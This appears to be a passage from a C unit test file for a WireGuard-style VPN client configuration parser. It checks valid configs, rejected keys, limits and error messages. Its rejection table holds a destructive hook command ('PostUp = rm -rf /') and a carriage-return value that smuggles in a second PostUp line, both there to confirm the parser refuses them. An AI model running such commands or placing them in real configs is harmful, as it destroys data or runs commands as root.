	"dns=10.64.3.1\nmtu=1420\n[PEER]\nPUBLICKEY=" PEER "\npresharedkey=" PSK
	"\n\tendpoint\t=\tvpn.example.com:51820\t\nallowedips = 0.0.0.0/0 ,  ::/0\n"
	"persistentkeepalive = 25",
	/* comments, blank lines, CRLF, lists split over lines, UTF-8 in a comment */
	"# MyRelay client config for Zo\xc3\xab's phone\r\n\r\n[Interface] # this device\r\n"
	"PrivateKey = " PRIV "\r\nAddress = 10.64.3.2/32\r\nAddress = fd00::2/128 # v6\r\n"
	"DNS = 10.64.3.1\r\nMTU = 1420\r\n\r\n# the pod\r\n[Peer]\r\nPublicKey = " PEER "\r\n"
	"PresharedKey = " PSK "\r\nEndpoint = vpn.example.com:51820\r\n"
	"AllowedIPs = 0.0.0.0/0\r\nAllowedIPs = ::/0\r\nPersistentKeepalive = 25\r\n",
	/* [Peer] first, keys in another order, non-canonical addresses */
	"[Peer]\nPersistentKeepalive = 25\nAllowedIPs = 0.0.0.0/0, ::/0\n"
	"Endpoint = vpn.example.com:51820\nPresharedKey = " PSK "\nPublicKey = " PEER "\n"
	"[Interface]\nMTU = 1420\nDNS = 10.64.3.1\nAddress = 10.64.3.2/32, FD00:0::2/128\n"
	"PrivateKey = " PRIV "\n",
};

START_TEST(test_parse_good)
{
	mr_conf *c = NULL;
	char *text;

	ck_mr_ok(mr_conf_parse(&c, parse_good[_i]));
	text = render(c);
	ck_assert_str_eq(text, FULL_TEXT);
	mr_conf_free_text(text);
	mr_conf_free(c);
}
END_TEST

START_TEST(test_parse_keepalive_off)
{
	mr_conf *c = NULL;

	ck_mr_ok(mr_conf_parse(&c, "[Interface]\n[Peer]\nPersistentKeepalive = off\n"));
	ck_assert_uint_eq(mr_conf_get_keepalive(c), 0);
	/* An incomplete file parses; rendering is what needs every field. */
	ck_assert_ptr_null(mr_conf_get_private_key(c));
	mr_conf_free(c);
}
END_TEST

#define IF "[Interface]\nPrivateKey = " PRIV "\n"

static const struct {
	const char *text;
	int rc;
	const char *msg; /* exact detail, or a prefix when it ends with "..." */
} parse_bad[] = {
	{ IF "PostUp = rm -rf /\n", MR_EINVAL,
	  "conf: line 3: PostUp is refused: wg-quick runs it as a command as root" },
	{ IF "postup=id\n", MR_EINVAL, "conf: line 3: PostUp is refused..." },
	{ IF "PreUp = id\n", MR_EINVAL, "conf: line 3: PreUp is refused..." },
	{ IF "PreDown = id\n", MR_EINVAL, "conf: line 3: PreDown is refused..." },
	{ IF "[Peer]\nPOSTDOWN = id\n", MR_EINVAL, "conf: line 4: PostDown is refused..." },
	{ IF "Table = off\n", MR_EINVAL,
	  "conf: line 3: Table is refused: a wg-quick-only setting that is not supported" },
	{ IF "SaveConfig = true\n", MR_EINVAL, "conf: line 3: SaveConfig is refused..." },
	{ IF "ListenPort = 51820\n", MR_EINVAL,
	  "conf: line 3: ListenPort is not supported in a client configuration" },
	{ IF "FwMark = 0x1\n", MR_EINVAL, "conf: line 3: FwMark is not supported..." },
	{ IF "[Peer]\n[Peer]\n", MR_EINVAL, "conf: line 4: only one [Peer] is supported" },
	{ IF "[Peer]\nPublicKey = " PEER "\n\n[peer]\n", MR_EINVAL,
	  "conf: line 6: only one [Peer] is supported" },
	{ IF "[Interface]\n", MR_EINVAL, "conf: line 3: only one [Interface] is supported" },
	{ IF "Foo = bar\n", MR_EINVAL, "conf: line 3: unknown key 'Foo'" },
	{ IF "Private Key = x\n", MR_EINVAL, "conf: line 3: unknown key" },
	{ IF PRIV "\n", MR_EINVAL, "conf: line 3: unknown key" },
	{ IF "garbage\n", MR_EINVAL, "conf: line 3: expected 'Key = value'" },
	{ IF " = 10.0.0.1/32\n", MR_EINVAL, "conf: line 3: expected 'Key = value'" },
	{ "PrivateKey = " PRIV "\n[Interface]\n", MR_EINVAL,
	  "conf: line 1: PrivateKey before any section" },
	{ IF "Endpoint = 192.0.2.1:1\n", MR_EINVAL, "conf: line 3: Endpoint belongs in [Peer]" },
	{ IF "[Peer]\nAddress = 10.0.0.2/32\n", MR_EINVAL,
	  "conf: line 4: Address belongs in [Interface]" },
	{ "[Interface\n", MR_EINVAL, "conf: line 1: malformed section header" },
	{ "[Interface]]\n", MR_EINVAL, "conf: line 1: unknown section" },
	{ "[ Interface ]\n", MR_EINVAL, "conf: line 1: unknown section" },
	{ "[Foo]\n", MR_EINVAL, "conf: line 1: unknown section [Foo]" },
	{ IF "PrivateKey = " PRIV "\n", MR_EINVAL, "conf: line 3: PrivateKey given twice" },
	{ IF "MTU = 1420\nMTU = 1420\n", MR_EINVAL, "conf: line 4: MTU given twice" },
	{ IF "Address = 10.0.0.1/32\x01\n", MR_EINVAL,
	  "conf: line 3: contains a control character" },
	{ IF "Address = 10.0.0.1/32\rPostUp = id\n", MR_EINVAL,
	  "conf: line 3: contains a carriage return" },
	{ IF "# bell \a in a comment\n", MR_EINVAL, "conf: line 3: contains a control character" },
	{ IF "[Peer]\nEndpoint = vpn.ex\xc3\xa4mple.com:1\n", MR_EINVAL,
	  "conf: line 4: contains a non-ASCII character" },
	{ "", MR_EINVAL, "conf: line 1: no [Interface] section" },
	{ "# nothing\n\n", MR_EINVAL, "conf: line 2: no [Interface] section" },
	{ "[Peer]\n", MR_EINVAL, "conf: line 1: no [Interface] section" },
	{ IF "Address = 10.0.0.1/32,,10.0.0.2/32\n", MR_EINVAL,
	  "conf: line 3: Address: empty list item" },
	{ IF "Address = 10.0.0.1/32,\n", MR_EINVAL, "conf: line 3: Address: empty list item" },
	{ IF "Address =\n", MR_EINVAL, "conf: line 3: Address: is empty" },
	{ IF "Address = 10.0.0.1/32 10.0.0.2/32\n", MR_EINVAL,
	  "conf: line 3: Address: contains a space" },
	{ IF "Address = 10.0.0.1/33\n", MR_EINVAL,
	  "conf: line 3: Address: prefix length out of range for IPv4 (0-32)" },
	{ IF "Address = 10.0.0.1/32\nAddress = 10.0.0.1/32\n", MR_EEXIST,
	  "conf: line 4: Address: 10.0.0.1/32 is already present" },
	{ IF "DNS = example.com\n", MR_EINVAL,
	  "conf: line 3: DNS: not an IP address (search domains are not supported)" },
	{ IF "PrivateKey = x = y\n", MR_EINVAL, "conf: line 3: PrivateKey given twice" },
	{ "[Interface]\nPrivateKey = x = y\n", MR_EINVAL,
	  "conf: line 2: PrivateKey: contains a space" },
	{ "[Interface]\nPrivateKey =\n", MR_EINVAL, "conf: line 2: PrivateKey: is empty" },
	{ "[Interface]\nPrivateKey = " PRIV_NONCANON "\n", MR_EINVAL,
	  "conf: line 2: PrivateKey: not canonical" },
	{ IF "MTU = 0\n", MR_EINVAL, "conf: line 3: MTU: not a number from 576 to 9000" },
	{ IF "MTU = 1e3\n", MR_EINVAL, "conf: line 3: MTU: not a number from 576 to 9000" },
	{ IF "MTU = 01420\n", MR_EINVAL, "conf: line 3: MTU: not a number from 576 to 9000" },
	{ IF "MTU = 500\n", MR_EINVAL, "conf: line 3: MTU: must be 0 (unset) or 576 to 9000" },
	{ IF "MTU = 1000\nAddress = fd00::2/128\n", MR_EINVAL,
	  "conf: line 4: Address: an IPv6 address needs an MTU of at least 1280 (MTU is 1000)" },
	{ IF "[Peer]\nPersistentKeepalive = -1\n", MR_EINVAL,
	  "conf: line 4: PersistentKeepalive: not a number from 0 to 65535 or \"off\"" },
	{ IF "[Peer]\nPersistentKeepalive = 65536\n", MR_EINVAL,
	  "conf: line 4: PersistentKeepalive: must be 0 (off) to 65535" },
	{ IF "[Peer]\nEndpoint = 1.2.3.4:51820 # ok\nEndpoint = 1.2.3.4:1\n", MR_EINVAL,
	  "conf: line 5: Endpoint given twice" },
	/* A key pasted on an address line: the cidr detail loses its quotation. */
	{ IF "Address = iABzX42ApUXr07yml1VxC5C8DTstqPU2oBvGxiS6DXU/32\n", MR_EINVAL,
	  "conf: line 3: Address: not an IPv4 or IPv6 address" },
	{ IF "DNS = iABzX42ApUXr07yml1VxC5C8DTstqPU2oBvGxiS6DXU/32\n", MR_EINVAL,
	  "conf: line 3: DNS: expected a bare address, without \"/length\"" },
	{ IF "[Peer]\nAllowedIPs = 10.0.0.1/8\n", MR_EINVAL,
	  "conf: line 4: AllowedIPs: host bits set (network is 10.0.0.0/8)" },
	{ IF "[Peer]\nPublicKey = " ZERO_KEY "\n", MR_EINVAL,
	  "conf: line 4: PublicKey: all zeros" },
};

START_TEST(test_parse_bad)
{
	mr_conf *c = (mr_conf *)&c; /* a sentinel that must survive */
	const char *want = parse_bad[_i].msg;
	size_t n = strlen(want);

	mr_error_clear();
	ck_mr_err(mr_conf_parse(&c, parse_bad[_i].text), parse_bad[_i].rc);
	ck_assert_ptr_eq(c, (mr_conf *)&c);
	if (n > 3 && strcmp(want + n - 3, "...") == 0)
		ck_assert_msg(strncmp(mr_error_message(), want, n - 3) == 0,
			      "row %d: got \"%s\", wanted \"%s\"", _i, mr_error_message(), want);
	else
		ck_assert_str_eq(mr_error_message(), want);
	/* No parse error quotes key material. */
	ck_assert_ptr_null(strstr(mr_error_message(), "iABzX42A"));
}
END_TEST

START_TEST(test_parse_size_limit)
{
	/* Exactly MR_CONF_MAX_TEXT bytes parses (padding is comment); one more
	 * byte is refused before any line is read. */
	size_t head = strlen(MINIMAL_TEXT);
	char *text = malloc(MR_CONF_MAX_TEXT + 2);
	mr_conf *c = NULL;

	ck_assert_ptr_nonnull(text);
	memcpy(text, MINIMAL_TEXT, head);
	text[head] = '#';
	memset(text + head + 1, 'x', MR_CONF_MAX_TEXT - head - 1);
	text[MR_CONF_MAX_TEXT] = '\0';
	ck_mr_ok(mr_conf_parse(&c, text));
	mr_conf_free(c);
	c = NULL;

	text[MR_CONF_MAX_TEXT] = 'x';
	text[MR_CONF_MAX_TEXT + 1] = '\0';
	ck_mr_err(mr_conf_parse(&c, text), MR_ETOOBIG);
	ck_assert_str_eq(mr_error_message(), "conf: text is larger than 65536 bytes");
	ck_assert_ptr_null(c);
	free(text);
}
END_TEST

/* Parsing works on a copy: the caller's text is untouched. */
START_TEST(test_parse_leaves_input)
{
	char text[] = FULL_TEXT;
	mr_conf *c = NULL;

	ck_mr_ok(mr_conf_parse(&c, text));
	ck_assert_str_eq(text, FULL_TEXT);
	mr_conf_free(c);
}
END_TEST

/* Setting a single-valued field again replaces it (builder semantics). */
START_TEST(test_setters_replace)
{
	mr_conf *c = make_full();

	ck_mr_ok(mr_conf_set_endpoint(c, "[2001:db8::1]:443"));
	ck_assert_str_eq(mr_conf_get_endpoint(c), "[2001:db8::1]:443");
	ck_mr_ok(mr_conf_set_peer_public_key(c, PRIV_PUB));
	ck_assert_str_eq(mr_conf_get_peer_public_key(c), PRIV_PUB);
	ck_mr_ok(mr_conf_set_keepalive(c, 0));
	ck_assert_uint_eq(mr_conf_get_keepalive(c), 0);
	mr_conf_free(c);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("conf");
	TCase *tc = tcase_create("setters");
	TCase *tr = tcase_create("render");
	TCase *tp = tcase_create("parse");

	tcase_add_loop_test(tc, test_good_values, 0, (int)MR_ARRAY_SIZE(good));
	tcase_add_loop_test(tc, test_bad_values, 0, (int)MR_ARRAY_SIZE(bad));
	tcase_add_test(tc, test_key_errors_do_not_echo);
	tcase_add_loop_test(tc, test_mtu_values, 0, (int)MR_ARRAY_SIZE(mtus));
	tcase_add_loop_test(tc, test_keepalive_values, 0, (int)MR_ARRAY_SIZE(keepalives));
	tcase_add_test(tc, test_mtu_ipv6_rule);
	tcase_add_test(tc, test_null_arguments);
	tcase_add_test(tc, test_setters_replace);
	suite_add_tcase(s, tc);

	tcase_add_test(tr, test_render_full);
	tcase_add_test(tr, test_render_minimal);
	tcase_add_test(tr, test_render_incomplete_empty);
	tcase_add_loop_test(tr, test_render_incomplete_each, 0, 5);
	tcase_add_test(tr, test_render_refuses_self_peer);
	tcase_add_test(tr, test_round_trip_full);
	tcase_add_test(tr, test_round_trip_minimal);
	tcase_add_test(tr, test_limits_round_trip);
	suite_add_tcase(s, tr);

	tcase_add_loop_test(tp, test_parse_good, 0, (int)MR_ARRAY_SIZE(parse_good));
	tcase_add_test(tp, test_parse_keepalive_off);
	tcase_add_loop_test(tp, test_parse_bad, 0, (int)MR_ARRAY_SIZE(parse_bad));
	tcase_add_test(tp, test_parse_size_limit);
	tcase_add_test(tp, test_parse_leaves_input);
	suite_add_tcase(s, tp);
	return mr_test_run_suite(s);
}
